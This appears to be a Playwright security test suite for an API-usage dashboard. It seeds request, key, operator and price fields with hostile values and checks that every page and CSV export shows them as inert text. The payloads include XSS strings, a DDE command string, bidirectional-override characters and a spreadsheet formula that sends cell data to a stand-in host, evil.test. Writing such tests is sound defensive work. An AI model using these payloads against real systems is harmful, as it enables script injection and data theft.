import { expect, type Page } from '@playwright/test';
import { type CallPlan, makeCalls } from './calls';
import { logIn, test, visit, withOffpeak } from './offpeak-test';

// Each would set this mark if any page ever ran it; dialogs and console errors fail every test anyhow.
const MARK = 'hostileScriptRan';
const IMG = `<img src=x onerror="window.${MARK}=1;alert(1)">`;
const SCRIPT = `"><script>window.${MARK}=1</script>`;
const FORMULA = `=HYPERLINK("https://evil.test/?"&A1)`;
const RIGHT_TO_LEFT = 'claude-\u202Etxt.exe';
const HIDDEN = 'claude-son\u200Bnet\u0000\u0007\u001B[31m-5-5\n\tsecond line';
const LONG = `claude-${'x'.repeat(5_000)}`;

const MODELS = [IMG, SCRIPT, FORMULA, '+1+cmd', '@SUM(A1)', RIGHT_TO_LEFT, HIDDEN, LONG, '__proto__', 'constructor'];
const SESSION = `${SCRIPT}${IMG}`;

let keyName = '';
withOffpeak({
  prepare: async (offpeak) => {
    keyName = `<img src=x onerror=alert(1)>\u202E=1+1`;
    const { secret } = await offpeak.api.createKey({ name: keyName });
    const tags = `team=${IMG.replaceAll(',', '')},job==cmd|' /C calc'!A0,constructor=<b>x</b>`;
    const headers = { 'x-claude-code-session-id': SESSION, 'x-claude-code-agent-id': IMG };
    const plans = MODELS.map((model): CallPlan => ({ model, tags, headers, apiKey: secret }));
    await makeCalls(offpeak, [...plans, { model: 'claude-haiku-5-5', tags, headers, apiKey: secret }]);
  },
});
test.beforeEach(({ page, offpeak }) => logIn(page, offpeak.adminToken));

/** Nothing ran, nothing became an element, and nothing reorders or hides the text around it. */
async function expectInert(page: Page): Promise<void> {
  expect(await page.evaluate((mark) => mark in window, MARK)).toBe(false);
  await expect(page.locator('img[src="x"], main b')).toHaveCount(0);
  const text = (await page.locator('main, [role="dialog"]').allTextContents()).join();
  // biome-ignore lint/suspicious/noControlCharactersInRegex: exactly these must not get through
  expect(text).not.toMatch(/[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u200B-\u200F\u202A-\u202E\u2066-\u2069]/);
  const wider = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
  expect(wider).toBe(0);
}

test('the list, the filters and the drawer show hostile names as mere text', async ({ page }) => {
  await visit(page, '/requests');
  const rows = page.locator('a[data-request]');
  await expect(rows).toHaveCount(MODELS.length + 1);
  const table = page.getByRole('region', { name: 'Requests, table' });
  await expect(table).toContainText(IMG);
  await expect(table).toContainText('claude-⟨U+202E⟩txt.exe');
  await expectInert(page);
  for (const menu of ['Model', 'Key', 'Tag']) {
    await page.getByRole('button', { name: menu, exact: true }).click();
    await expect(page.getByRole('dialog', { name: menu }).getByRole('checkbox').first()).toBeVisible();
    await expectInert(page);
    await page.keyboard.press('Escape');
  }
  await rows.first().click();
  const drawer = page.getByRole('dialog', { name: 'Request' });
  for (let at = 0; at <= MODELS.length; at++) {
    await expect(drawer.getByRole('heading', { name: 'Caller and ids' })).toBeVisible();
    await expect(drawer).toContainText(SESSION);
    await expectInert(page);
    await page.keyboard.press('j');
  }
});

test('a filter by a hostile name finds it, also by its link', async ({ page }) => {
  for (const model of [SCRIPT, RIGHT_TO_LEFT, FORMULA]) {
    await visit(page, `/requests?model=${encodeURIComponent(model)}`);
    await expect(page.locator('a[data-request]')).toHaveCount(1);
    await expectInert(page);
  }
  await visit(
    page,
    `/requests?q=${encodeURIComponent(IMG)}&key=${encodeURIComponent(IMG)}&tag=${encodeURIComponent(IMG)}`,
  );
  await expect(page.getByText('No request in this range matches.')).toBeVisible();
  await expectInert(page);
});

test('overview, charts, their tables and tooltips', async ({ page }) => {
  await visit(page, '/?from=now-15m');
  await expect(page.getByRole('region', { name: 'Latest requests' }).getByRole('row').nth(1)).toBeVisible();
  await expectInert(page);
  for (const title of ['Spend by model', 'Requests']) {
    const toggle = page.getByRole('button', { name: `${title}: view as table` });
    await expect(toggle).toBeVisible();
    await toggle.click();
  }
  await expectInert(page);
});

test('keys, prices and operators', async ({ page, offpeak }) => {
  await visit(page, '/keys');
  await expect(page.getByRole('row').filter({ hasText: '<img' })).toContainText('⟨U+202E⟩');
  await expectInert(page);
  await page.getByRole('button', { name: /^Revoke <img/ }).click();
  const confirm = page.getByRole('dialog', { name: 'Revoke this key?' });
  await confirm.getByRole('textbox').fill(keyName.replace('\u202E', '⟨U+202E⟩'));
  await expect(confirm.getByRole('button', { name: 'Revoke' })).toBeEnabled();
  await expectInert(page);

  await offpeak.api.call('POST', '/api/operators', { name: `${IMG}\u2066`, role: 'viewer' });
  await visit(page, '/settings');
  await expect(page.getByRole('row').filter({ hasText: '<img' })).toContainText('⟨U+2066⟩');
  await expectInert(page);
  await offpeak.api.call('PUT', '/api/prices', {
    model: IMG,
    effectiveFrom: '2026-01-01T00:00:00Z',
    input: '1',
    output: '1',
    cacheWrite5m: '1',
    cacheWrite1h: '1',
    cacheRead: '1',
    source: `javascript:alert(1) ${SCRIPT} \u202E`,
  });
  await visit(page, '/prices');
  await expect(page.getByRole('row').filter({ hasText: '<img' })).toContainText('javascript:alert(1)');
  await expectInert(page);
});

test('the address is no way in either', async ({ page, watch }) => {
  watch.expectFault(/status of 4\d\d/);
  for (const [path, shown] of [
    [`/requests/${encodeURIComponent(IMG)}`, /The request could not be loaded/],
    [`/requests/opr_${encodeURIComponent(SCRIPT)}`, /The request could not be loaded/],
    [`/?tz=${encodeURIComponent(IMG)}&from=${encodeURIComponent(SCRIPT)}&to=x&refresh=-1`, /Latest requests/],
    [`/login?next=${encodeURIComponent(`javascript:${MARK}=1`)}#${encodeURIComponent(IMG)}`, /Get a new one/],
    ['/login#%E0%A4%A', /Get a new one/],
    ['/requests/%E0%A4%A', /The path is not percent-encoded UTF-8/],
  ] as const) {
    await test.step(path, async () => {
      await page.goto(path);
      await expect(page.getByText(shown).first()).toBeVisible();
      await expectInert(page);
    });
  }
});

test('a spreadsheet that opens the CSV runs nothing', async ({ page }) => {
  await visit(page, '/requests');
  await expect(page.locator('a[data-request]')).toHaveCount(MODELS.length + 1);
  for (const [path, button] of [
    ['/requests', 'Download the list as CSV, at most 100,000 rows'],
    ['/?from=now-15m', 'Models: download CSV'],
    ['/?from=now-15m', 'Spend by model: download CSV'],
  ] as const) {
    await visit(page, path);
    const download = page.getByRole('button', { name: button });
    await expect(download).toBeEnabled();
    const downloading = page.waitForEvent('download');
    await download.click();
    const chunks: Buffer[] = [];
    for await (const chunk of await (await downloading).createReadStream()) chunks.push(chunk as Buffer);
    const cells = cellsOf(Buffer.concat(chunks).toString('utf8'));
    expect(cells.length).toBeGreaterThan(5);
    const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
    expect(formulas).toEqual([]);
  }
});

/** RFC 4180, read back. */
function cellsOf(csv: string): string[] {
  return [...csv.matchAll(/("(?:[^"]|"")*"|[^,\r\n]*)(?:,|\r\n|$)/g)].map(([, cell = '']) =>
    cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell,
  );
}
